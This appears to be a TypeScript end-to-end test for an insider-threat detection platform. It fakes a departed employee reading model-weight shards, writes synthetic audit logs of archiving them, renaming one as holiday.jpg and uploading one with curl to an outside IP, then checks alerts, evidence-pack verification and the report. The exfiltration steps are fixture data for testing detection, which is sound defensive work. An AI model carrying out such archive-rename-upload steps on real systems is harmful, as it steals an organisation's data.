// Flow 4. A leaver: a person's ninety days, an archive, a new name, an upload; the signed pack, checked by both verifiers; the report.
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import type { Page } from "playwright-core";
import { picture } from "../world/browser.ts";
import { accountClosed, webRequest } from "../world/records.ts";
import { command, incidentOf, list, shardsOf, until, type World } from "./world.ts";

/** One person: the account that was closed and reads weights, and the login on the host. */
const kim = "kim@acme.example";
const login = "kim";
const [hourMs, dayMs] = [3_600_000, 86_400_000];
/** The second verifier: another language, nothing of ours in it. */
export const secondVerifier = join(
  import.meta.dirname,
  "..",
  "..",
  "packages",
  "evidence",
  "verifier",
  "verify_pack.py",
);

export async function leaver(world: World): Promise<string> {
  const { ana, platform, root } = world;
  const { page } = ana;
  const now = Date.now();
  world.log("front", ...weeks(now));
  world.log("okta", accountClosed({ at: now - 2 * hourMs, who: kim, by: "it@acme.example" }));
  await until(
    "the account is known as closed",
    async () =>
      (await list(ana, "/api/events?filter=source:okta")).length > 0 &&
      (await list(ana, `/api/events?filter=principal:${kim}&limit=100`)).length >= 30,
  );
  world.log("front", ...lastReads(now - hourMs));
  world.log("audit", ...onTheHost(root, now - hourMs / 2));
  const incident = await incidentOf(world, "acme-7b", kim);
  await until("the alerts of the host are in it", async () => {
    const { alerts } = (await ana.get(`/api/incidents/${incident.id}`)).body;
    const rules = alerts.map((it: { rule: string }) => it.rule);
    return [
      "lnx_weights_archived_or_encrypted",
      "lnx_weights_renamed",
      "lnx_weights_upload_tool",
      "retired-key-used",
    ].every((it) => rules.includes(it));
  });

  // The person first, by name: all that is kept of ninety days.
  await page.goto(`${platform.url}/incidents/${incident.id}`);
  await page.getByRole("heading", { name: "Who and what" }).waitFor();
  await page
    .locator(`main a[href*="/entities/principal/${kim.split("@")[0]}"][href*="acme"]`)
    .first()
    .click();
  await page.getByRole("heading", { name: "When", exact: true }).waitFor();
  const { firstAt, events } = (await ana.get(`/api/entity?kind=principal&name=${kim}`)).body.summary;
  assert.ok(now - firstAt > 80 * dayMs, "the page goes back as far as the logs");
  assert.ok(events >= 30, `${events} events`);
  await picture(page, "flow-4-person");
  await page.getByRole("link", { name: "All its events" }).click();
  await page.waitForURL(/\/events\?filter=principal/);
  await page.getByRole("grid").getByRole("row").nth(1).waitFor();
  const words = await page.getByRole("grid").innerText();
  assert.match(words, /download/);

  // What the same person did on a host: an archive, a new name, an upload.
  await page.goto(`${platform.url}/entities/principal/${login}`);
  await page.getByRole("heading", { name: "What it did" }).waitFor();
  await page.getByText("launch").first().waitFor();

  // The pack, and what others read.
  await page.goto(`${platform.url}/incidents/${incident.id}?tab=activity`);
  const pack = await kept(page, "Take this incident's evidence as a pack");
  const ours = await command(world, "verify", pack, "--json");
  assert.equal(ours.code, 0, ours.stdout + ours.stderr);
  if (existsSync("/usr/bin/python3")) {
    const second = spawnSync("/usr/bin/python3", [secondVerifier, pack], { encoding: "utf8" });
    assert.equal(second.status, 0, second.stdout + second.stderr);
  }
  const report = readFileSync(await kept(page, "A report to read"), "utf8");
  for (const it of [kim, "acme-7b"]) assert.ok(report.includes(it), `the report does not tell of ${it}`);
  await page.goto(`${platform.url}/report`);
  await page.getByRole("heading", { name: "What nobody accounts for" }).waitFor();
  await picture(page, "flow-4-report");
  return `${events} events of one person over 90 days; the pack holds for both verifiers`;
}

/** Presses a button that hands out a file. @returns Where it lies. */
export async function kept(page: Page, button: string): Promise<string> {
  const download = page.waitForEvent("download");
  await page.getByRole("button", { name: button }).click();
  return (await download).path();
}

/** Every few days a shard, at work, as one who may. */
function weeks(now: number): string[] {
  return Array.from({ length: 30 }, (_, n) => {
    const [part = "", body = Buffer.alloc(0)] = shardsOf("acme-7b")[n % 2] ?? [];
    const at = now - 89 * dayMs + n * 3 * dayMs;
    return webRequest({
      at,
      user: kim,
      address: "10.0.9.1",
      bytes: body.length,
      uri: `/acme/acme-7b/resolve/main/${part}`,
    });
  });
}

function lastReads(at: number): string[] {
  return shardsOf("acme-7b").map(([part, body], i) =>
    webRequest({
      at: at + i * 1000,
      user: kim,
      address: "10.0.9.1",
      bytes: body.length,
      uri: `/acme/acme-7b/resolve/main/${part}`,
    }),
  );
}

/** An archive, a new name, an upload: what the kernel writes of each. */
function onTheHost(root: string, at: number): string[] {
  const place = join(root, "srv", "acme-7b");
  const [first = "", second = ""] = shardsOf("acme-7b").map(([name]) => join(place, name));
  const steps = [
    ["tar", "czf", "/tmp/old-mail.tgz", "-C", join(root, "srv"), "acme-7b"],
    ["cp", first, "/home/kim/holiday.jpg"],
    ["curl", "-sT", second, "http://198.51.100.20/u"],
  ];
  return steps.flatMap((argv, i) => launched(at + i * 60_000, 700 + i, argv));
}

function launched(at: number, serial: number, argv: readonly string[]): string[] {
  const stamp = `msg=audit(${(at / 1000).toFixed(3)}:${serial}):`;
  const [program = ""] = argv;
  const all = argv.map((it, i) => `a${i}="${it}"`).join(" ");
  return [
    `type=SYSCALL ${stamp} arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=1 ppid=1 pid=${serial} auid=1002 uid=1002 comm="${program}" exe="/usr/bin/${program}" key="started"\u001dARCH=x86_64 SYSCALL=execve AUID="${login}" UID="${login}"`,
    `type=EXECVE ${stamp} argc=${argv.length} ${all}`,
    `type=CWD ${stamp} cwd="/home/kim"`,
    `type=PATH ${stamp} item=0 name="/usr/bin/${program}" mode=0100755 nametype=NORMAL`,
  ];
}
